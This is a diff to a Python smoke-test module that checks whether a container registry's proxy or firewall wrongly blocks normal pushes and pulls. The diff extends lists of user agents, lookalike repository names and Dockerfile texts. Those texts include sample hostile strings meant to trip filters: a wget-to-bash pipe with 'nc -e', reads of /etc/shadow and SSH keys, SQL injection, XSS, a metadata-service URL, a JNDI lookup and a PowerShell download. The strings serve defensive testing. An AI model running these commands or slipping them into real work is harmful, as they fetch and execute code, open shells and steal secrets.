@@ -12,7 +12,7 @@ from registry_gitops.smoke.diagnosis import expect_status, is_page, parse_error_
 from registry_gitops.smoke.exceptions import CheckFailed
 from registry_gitops.smoke.images import ACCEPT_ALL, LocalBlob
 from registry_gitops.smoke.levels import Level
-from registry_gitops.smoke.remedies import ENCODED, FILTERED, LONG_HEADERS, STORAGE_NOT_SHARED
+from registry_gitops.smoke.remedies import ENCODED, FILTERED, LONG_HEADERS, STORAGE_NOT_SHARED, TOO_LARGE
 from registry_gitops.smoke.repository import OCTETS, Upload, expect_same_bytes
 
 _DOCKER: Final = (
@@ -22,25 +22,32 @@ _DOCKER: Final = (
 _KANIKO: Final = "kaniko/v1.24.0 go-containerregistry/v0.20.6"
 _PODMAN: Final = "libpod/5.5.2"
 _BUILDKIT: Final = "buildkit/v0.23"
+_COSIGN: Final = "cosign/v2.5.2 (linux; amd64) go-containerregistry/v0.20.6"
+_ORAS: Final = "oras/1.2.3"
 _HELM: Final = "Helm/3.18.3"
 _REGCTL: Final = "regclient/regctl (v0.9.0)"
 _THAT_PING: Final = (
     _DOCKER,
     _PODMAN,
+    "containers/5.35.0 (github.com/containers/image)",
+    "Buildah/1.40.1",
     "skopeo/1.19.0",
     "containers/5.36.1 (github.com/containers/image)",
     "cri-o/1.33.1 go/go1.24.3 os/linux arch/amd64",
     "crane/v0.20.6 go-containerregistry/v0.20.6",
     _KANIKO,
-    "cosign/v2.5.2 (linux; amd64) go-containerregistry/v0.20.6",
+    _COSIGN,
     "flux/v2",
+    "trivy/0.63.0",
+    "RenovateBot/41.7.2 (https://github.com/renovatebot/renovate)",
+    "jib 3.4.5 jib-maven-plugin Google-HTTP-Java-Client/1.43.3 (gzip)",
     "Go-http-client/1.1",
 )
 """User agents of tools that request /v2/ first."""
-_THAT_RESOLVE: Final = ("containerd/v2.1.3", _BUILDKIT, "oras/1.2.3", _HELM, _REGCTL)
+_THAT_RESOLVE: Final = ("containerd/v2.1.3", _BUILDKIT, _ORAS, _HELM, _REGCTL)
 """User agents of tools that request a manifest first, by HEAD."""
-_THAT_PUSH: Final = (_DOCKER, _BUILDKIT, _PODMAN, _KANIKO, _HELM, _REGCTL)
-"""User agents of tools that push, one for each library."""
+_THAT_PUSH: Final = (_DOCKER, _BUILDKIT, _PODMAN, _KANIKO, _COSIGN, _ORAS, _HELM, _REGCTL)
+"""User agents of tools that push."""
 
 _NAMES: Final = (
     ("admin/api/login", "latest"),
@@ -49,6 +56,7 @@ _NAMES: Final = (
     ("backup.sql", "1.0.bak"),
     ("cgi-bin/setup.exe", "web.config"),
     ("etc/passwd", "1.0..2"),
+    ("test/a__b", "_1.0.zip"),
     ("a/b/c/d/e/f/g/h", f"v{'1' * 127}"),
 )
 """Valid names of repositories, and tags, that look like what filters protect."""
@@ -62,16 +70,23 @@ _METHOD_REFUSED: Final = (403, 405, 406, 501)
 
 _TEXTS: Final = {
     "shell commands": "RUN /bin/sh -c apt-get update && apt-get install -y curl > /dev/null; rm -rf /var/lib/apt/* "
-    "&& wget -qO- https://example.com/install.sh | bash",
+    "&& wget -qO- https://example.com/install.sh | bash -c 'base64 -d > /run.sh; chmod +x /run.sh; nc -e /run.sh'",
+    "programs": "RUN python -c 'eval(input())' && perl -e 'system(1)' && node -e 'require(`child_process`).exec()'",
     "system files": "COPY ../../../../etc/passwd /etc/shadow /root/.ssh/authorized_keys /proc/self/environ .env ./",
-    "SQL": 'RUN psql -c "SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT 2; DROP TABLE users; --"',
-    "HTML": "RUN echo '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>' > index.html",
+    "SQL": 'RUN psql -c "SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT 2; DROP TABLE users; --\' --"',
+    "HTML": "RUN echo '<html><script>alert(document.cookie)</script><iframe src=javascript:a><img src=x onerror=a>'",
     "PHP": "RUN echo '<?php phpinfo(); ?>' > index.php",
-    "addresses": "HEALTHCHECK CMD curl -f http://localhost:8080/ http://127.0.0.1/ http://169.254.169.254/latest/meta-data/",
+    "passwords": "ENV MYSQL_USER=root PASSWORD=changeme URL=mysql://root:changeme@db/ CERTIFICATE=-----BEGIN",
+    "addresses": "HEALTHCHECK CMD curl -f http://localhost:8080/ http://127.0.0.1/ "
+    "http://169.254.169.254/latest/meta-data/",
     "lookups": "ENV PATTERN=${jndi:ldap://example.com/a}",
-    "PowerShell": "RUN powershell -NoProfile -ExecutionPolicy Bypass -Command Invoke-WebRequest http://example.com/a.exe",
+    "PowerShell": "RUN cmd.exe /S /C powershell -NoProfile -ExecutionPolicy Bypass -Command Invoke-WebRequest a.exe",
 }
 """What usual Dockerfiles contain, and rules against attacks look for."""
+_STEPS: Final = [f"COPY part-{number} /srv/application/part-{number}" for number in range(150)]
+"""Make the manifest and the config longer than forms of web pages."""
+_PROGRAM: Final = b"\x7fELF\x02\x01\x01\0MZ\x90\0PK\x03\x04\n#!/bin/sh\n"
+"""The beginnings of programs and archives, for which filters look in uploads."""
 
 
 @check("filter-agents", level=Level.READ, spec="pitfall: filters on User-Agent", remedy=FILTERED)
@@ -107,10 +122,7 @@ def filter_agents_push(context: Context) -> None:
             response = context.client.request("PUT", path, image.content, headers)
         except NoResponseError as problem:
             raise CheckFailed(f"{what}: {problem.reason}") from None
-        if "MANIFEST_BLOB_UNKNOWN" in parse_error_codes(response):
-            raise CheckFailed(f"{what} returned {response.status}, but its blobs were pushed", STORAGE_NOT_SHARED)
-        if response.status != 201:
-            raise CheckFailed(f"{what} returned {response.status}, expected 201")
+        _expect_pushed_again(response, what)
 
 
 @check("filter-names", level=Level.READ, spec="distribution-spec, Pulling Manifests: names and tags", remedy=FILTERED)
@@ -138,7 +150,7 @@ def filter_tags(context: Context) -> None:
     A proxy that writes URLs in lower case sends clients to another tag.
     """
     tag = context.make_tag("V1.0-RC_2")
-    context.repository.store(context.make_variant(), tag)
+    _expect_pushed_again(context.repository.put_manifest(context.make_variant(), tag), f"PUT of the tag {tag}")
     expect_status(context.repository.request_manifest(tag), 200)
     if context.repository.request_manifest(tag.lower()).status == 200:
         raise CheckFailed(f"GET of the tag {tag.lower()} returned 200, but {tag} was pushed")
@@ -173,6 +185,8 @@ def filter_encodings(context: Context) -> None:
         Upload.from_response(context.repository, mounted).cancel()
     elif mounted.status != 201:
         raise CheckFailed(f"POST of an upload with the query {query} returned {mounted.status}, expected 201 or 202")
+    _, tag = context.pushed_image()
+    expect_status(context.repository.request_manifest(f"{tag}?ns=docker.io%2Flibrary"), 200)
     what = "PUT of a blob with digest=sha256%3A... and Expect: 100-continue"
     try:
         headers = {**OCTETS, "Expect": "100-continue"}
@@ -215,7 +229,7 @@ def filter_bodies(context: Context) -> None:
 
     The config of an image has the commands of its Dockerfile. To a web application firewall, they look like attacks.
     """
-    image = context.images.make_built_image(context.check_id, _TEXTS.values())
+    image = context.images.make_built_image(context.check_id, [*_TEXTS.values(), *_STEPS], _PROGRAM)
     config, layer = image.blobs
     try:
         # As Docker pushes, and as others do: filters look at some methods only.
@@ -229,6 +243,8 @@ def filter_bodies(context: Context) -> None:
         expect_status(context.repository.put_manifest(image, image.digest), 201)
         context.repository.expect_stored(image)
     except (CheckFailed, NoResponseError) as failure:
+        if isinstance(failure, CheckFailed) and failure.remedy == TOO_LARGE:
+            raise
         refused = [kind for kind, text in _TEXTS.items() if _is_refused(context, text)]
         raise CheckFailed(f"{failure}{': it contains ' if refused else ''}{', '.join(refused)}") from None
 
@@ -239,6 +255,14 @@ def _is_refused(context: Context, text: str) -> bool:
         return context.repository.start_upload().put(blob.digest, blob.content).status != 201
     except NoResponseError:
         return True
+
+
+def _expect_pushed_again(response: RegistryResponse, what: str) -> None:
+    """Return if the registry accepted a manifest that it has already. Raises CheckFailed."""
+    if "MANIFEST_BLOB_UNKNOWN" in parse_error_codes(response):
+        raise CheckFailed(f"{what} returned {response.status}, but its blobs were pushed", STORAGE_NOT_SHARED)
+    if response.status != 201:
+        raise CheckFailed(f"{what} returned {response.status}, expected 201")
 
 
 def _program(agent: str) -> str:
